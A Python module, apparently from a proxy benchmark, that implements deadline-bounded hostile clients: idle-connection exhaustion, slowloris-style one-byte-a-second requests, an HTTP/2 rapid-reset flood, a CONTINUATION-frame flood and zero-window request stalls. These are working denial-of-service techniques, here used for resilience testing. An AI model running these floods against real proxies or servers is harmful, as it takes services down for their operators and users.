"""What clients do to a proxy that mean it no good, each until a deadline and within bounds.

All take the proxy's address, the deadline, and a host with numbered documents; they set BEGUN when they are at it.
"""

import contextlib
import resource
import socket
import ssl
import threading
import time

BEGUN = threading.Event()

HEADERS, RESET, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def many_files():
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def connect(address):
    host, port = address.split(":")
    return socket.create_connection((host, int(port)), timeout=5)


def idle(address, deadline, _host, _documents):
    """Connections that say nothing."""
    many_files()
    with contextlib.ExitStack() as held:
        for _ in range(1100):
            with contextlib.suppress(OSError):
                held.enter_context(connect(address))
        BEGUN.set()
        wait_until(deadline)


def slow(address, deadline, _host, _documents):
    """Heads that come a byte a second."""
    many_files()
    head = b"GET http://h00.bench.test/ HTTP/1.1\r\nHost: h00.bench.test\r\n\r\n"
    with contextlib.ExitStack() as held:
        clients = []
        for _ in range(1000):
            with contextlib.suppress(OSError):
                clients.append(held.enter_context(connect(address)))
        BEGUN.set()
        for byte in head:
            for client in clients:
                # One that was closed takes no more.
                with contextlib.suppress(OSError):
                    client.send(bytes([byte]))
            if time.monotonic() >= deadline:
                return
            wait_until(min(deadline, time.monotonic() + 1))


def wait_until(deadline):
    threading.Event().wait(max(0, deadline - time.monotonic()))


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def request(host, path):
    """GET, in the codes of HPACK's static table."""
    text = lambda string: bytes([len(string)]) + string.encode()
    return b"\x82\x87\x44" + text(path) + b"\x41" + text(host)


def http2(address, host, settings=b""):
    """A connection of HTTP/2 behind CONNECT; its certificate does not matter."""
    tcp = connect(address)
    tcp.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        part = tcp.recv(1)
        if not part:
            raise ConnectionError("no tunnel")
        head += part
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    tls = context.wrap_socket(tcp, server_hostname=host)
    tls.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
    return tls


def again_and_again(address, deadline, host, frames):
    """Sends frames until the server closes, over and over; two clients, which read what comes back and throw it away."""

    def attack():
        while time.monotonic() < deadline:
            with contextlib.suppress(OSError), http2(address, host) as tls:
                BEGUN.set()
                for part in frames():
                    tls.sendall(part)
                    if time.monotonic() >= deadline:
                        return
                    tls.settimeout(0.001)
                    with contextlib.suppress(TimeoutError, ssl.SSLWantReadError):
                        if not tls.recv(65536):
                            break
                    tls.settimeout(5)

    attackers = [threading.Thread(target=attack) for _ in range(2)]
    for attacker in attackers:
        attacker.start()
    for attacker in attackers:
        attacker.join()


def resets(address, deadline, _host, _documents):
    """Requests that are taken back at once, a hundred at a time."""

    def frames():
        head = request("h00.bench.test", "/")
        for first in range(0, 1_000_000, 100):
            streams = range(2 * first + 1, 2 * (first + 100) + 1, 2)
            yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, head)
                           + frame(RESET, 0, stream, (8).to_bytes(4, "big")) for stream in streams)

    again_and_again(address, deadline, "h00.bench.test", frames)


def heads(address, deadline, _host, _documents):
    """A head that goes on in ever more frames."""

    def frames():
        yield frame(HEADERS, END_STREAM, 1, request("h00.bench.test", "/"))
        more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x7f" + b"a" * 254)
        for _ in range(100_000):
            yield more * 20

    again_and_again(address, deadline, "h00.bench.test", frames)


def window(address, deadline, host, documents):
    """Four connections with a hundred requests each, none of whose answers is taken."""
    closed = b"\x00\x04\x00\x00\x00\x00"
    with contextlib.ExitStack() as held:
        connections = []
        for number in range(4):
            with contextlib.suppress(OSError):
                tls = held.enter_context(http2(address, host, closed))
                for stream in range(100):
                    path = f"/{(number * 100 + stream) % documents}"
                    tls.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 2 * stream + 1, request(host, path)))
                connections.append(tls)
        BEGUN.set()
        wait_until(deadline)
